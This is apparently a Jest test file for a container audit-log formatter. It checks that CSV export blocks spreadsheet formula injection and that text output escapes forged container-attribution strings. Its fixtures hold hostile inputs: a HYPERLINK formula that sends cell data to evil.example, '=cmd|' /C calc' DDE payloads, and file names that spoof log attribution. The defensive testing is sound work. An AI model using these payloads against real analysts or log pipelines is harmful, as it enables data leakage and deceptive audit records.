import { csvHeaderRow, formatAuditEvent, type AttributedContainer, type FormatOptions } from '@contid/audit';
import { eventsOf } from './events-of';
import { isFormula, readCsvLine, semicolonCells, unguarded } from '../../../test/helpers/csv';

/**
 * F6 of the outside attack: what a container process writes — a file name, the name of a
 * program it runs, a USER message (Docker keeps CAP_AUDIT_WRITE) — becomes a csv cell that an
 * analyst opens in a spreadsheet. The records below are the kernel's for such a process
 * (values with special characters hex-encoded, as the kernel writes them); the real-kernel
 * version of this attack is test/search/csv-injection.test.ts.
 */
process.env.TZ = 'UTC';

const hex = (text: string): string => Buffer.from(text, 'utf8').toString('hex').toUpperCase();

const FILE = '=HYPERLINK("http://evil.example/?"&A1,"x"),y';
const PROGRAM = '/tmp/a,b;=cmd|\' /C calc\'!A0;c';
const ACCOUNT = "=cmd|' /C calc'!A0";
const FORGED = '/tmp/x container=db-prod contid=0000000000000539 orchestrator=docker';

const ATTACK = [
  // open(FILE) relative to /tmp by a program whose path has a comma and a ';=' formula
  `type=SYSCALL msg=audit(1795999836.528:100): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=55 a2=0 a3=0 items=1 ppid=1 pid=600 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=3 comm=${hex('a,b;=cmd|')} exe=${hex(PROGRAM)} key="files"`,
  'type=CWD msg=audit(1795999836.528:100): cwd="/tmp"',
  `type=PATH msg=audit(1795999836.528:100): item=0 name=${hex(FILE)} inode=1 dev=00:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
  'type=PROCTITLE msg=audit(1795999836.528:100): proctitle=2D',
  // a USER_LOGIN the container sent itself: its acct is the subject
  `type=USER_LOGIN msg=audit(1795999836.700:102): pid=700 uid=0 auid=0 ses=3 msg='op=login acct=${hex(ACCOUNT)} exe="/usr/sbin/sshd" hostname=+h,z addr=1.2.3.4 terminal=ssh res=success'`,
  // a program named to read like contid's attribution opens a file
  `type=SYSCALL msg=audit(1795999836.800:103): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=55 a2=0 a3=0 items=1 ppid=1 pid=601 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=3 comm="x" exe=${hex(FORGED)} key=(null)`,
  'type=CWD msg=audit(1795999836.800:103): cwd="/tmp"',
  'type=PATH msg=audit(1795999836.800:103): item=0 name="f" inode=1 dev=00:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
];

const DB: AttributedContainer = { contid: 0x1337n as never, name: '=evil,x', orchestrator: 'docker', runtimeId: null, parent: null, image: null };

function rows(options: FormatOptions, chain: AttributedContainer[] = []): string[][] {
  const text = csvHeaderRow(options) + eventsOf(ATTACK).map((e) => formatAuditEvent('csv', e, chain, options)).join('');
  return text.slice(0, -1).split('\n').map(readCsvLine);
}

describe('csv cells an attacker writes (F6)', () => {
  const variants: [string, FormatOptions][] = [
    ['plain', {}],
    ['every --extra-*', { csv: { keys: true, labels: true, obj2: true, time: true, container: true } }],
  ];

  it.each(variants)('%s: every row has the header\'s cells, and no cell is a formula, even split on ";"', (_, options) => {
    const [header, ...body] = rows(options, [DB]);
    expect(body).toHaveLength(3);
    // GMT_OFFSET (+00:00) is the one cell contid writes from a number that begins with + or -
    const offset = header.indexOf('GMT_OFFSET');
    for (const cells of body) {
      expect(cells).toHaveLength(header.length);
      for (const cell of cells.filter((_, i) => i !== offset)) {
        expect([cell, isFormula(cell)]).toEqual([cell, false]);
        for (const inner of semicolonCells(cell)) expect([cell, isFormula(inner)]).toEqual([cell, false]);
      }
    }
  });

  it('the attacker\'s text is kept whole in its own column (read back without the guard)', () => {
    const options: FormatOptions = { csv: { keys: true, container: true } };
    const [header, open, login] = rows(options, [DB]);
    const col = (row: string[], name: string): string => unguarded(row[header.indexOf(name)]);
    // libauparse resolves the path against the cwd and folds "//", as ausearch prints it
    expect(col(open, 'OBJ_PRIME')).toBe('/tmp/=HYPERLINK("http:/evil.example/?"&A1,"x"),y');
    expect(col(open, 'HOW')).toBe(PROGRAM);
    expect(col(open, 'KEY')).toBe('files');
    expect(col(login, 'SUBJ_PRIME')).toBe(ACCOUNT);
    expect(login[header.indexOf('SUBJ_PRIME')]).toBe(`'${ACCOUNT}`);
    expect(col(open, 'CONTAINER')).toBe('=evil,x');
    expect(open[header.indexOf('CONTAINER')]).toBe("'=evil,x");
  });

  it('text: a program named "… container=db-prod contid=… orchestrator=docker" cannot read as an attribution', () => {
    const forged = eventsOf(ATTACK)[2];
    const unattributed = formatAuditEvent('text', forged, []);
    expect(unattributed).toContain('opened-file /tmp/f using /tmp/x container\\075db-prod contid\\0750000000000000539 orchestrator\\075docker');
    expect(unattributed).not.toMatch(/ (container|contid|orchestrator)=/);
    const attributed = formatAuditEvent('text', forged, [{ ...DB, name: 'web' }]);
    expect(attributed.match(/ container=/g)).toHaveLength(1);
    expect(attributed).toMatch(/ container=web contid=4919 orchestrator=docker\n$/);
  });

  // Outside attack 10, F1: a no-break space (valid UTF-8, no control) prints as a space, and
  // `grep contid=<victim>` over a text export matched the line all the same.
  it.each([
    ['no-break space', '\u00a0'],
    ['no space at all', ''],
    ['ideographic space', '\u3000'],
    ['zero-width space', '\u200b'],
  ])('text: "… contid=" after a %s in a file name is escaped', (_, space) => {
    const name = `/tmp/notes${space}container=victim${space}contid=0000000000000539${space}orchestrator=docker`;
    const [forged] = eventsOf([
      'type=SYSCALL msg=audit(1795999836.900:104): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=55 a2=0 a3=0 items=1 ppid=1 pid=602 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=(none) ses=9 comm="touch" exe="/usr/bin/touch" key=(null)',
      'type=CWD msg=audit(1795999836.900:104): cwd="/tmp"',
      `type=PATH msg=audit(1795999836.900:104): item=0 name=${hex(name)} inode=1 dev=00:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
    ]);
    const line = formatAuditEvent('text', forged, []);
    expect(line).toContain('opened-file');
    expect(line).not.toMatch(/(container|contid|orchestrator)=/);
    expect(line).toContain('contid\\0750000000000000539');
  });

  it('interpret and text: a container name holding spaces of any kind cannot add a contid= of its own', () => {
    const forged = eventsOf(ATTACK)[2];
    for (const name of ['x contid=4242 orchestrator=docker', 'x\u00a0contid=4242\u00a0orchestrator=docker', 'x\u200bcontid=4242']) {
      const chain = [{ ...DB, name }];
      const separator = formatAuditEvent('interpret', forged, chain).split('\n')[0];
      expect(separator.match(/contid=/g)).toHaveLength(1);
      expect(separator).toMatch(/^---- container=x\\\d{3}\S* contid=4919 orchestrator=docker$/);
      const text = formatAuditEvent('text', forged, chain);
      expect(text.match(/contid=/g)).toHaveLength(1);
    }
  });
});
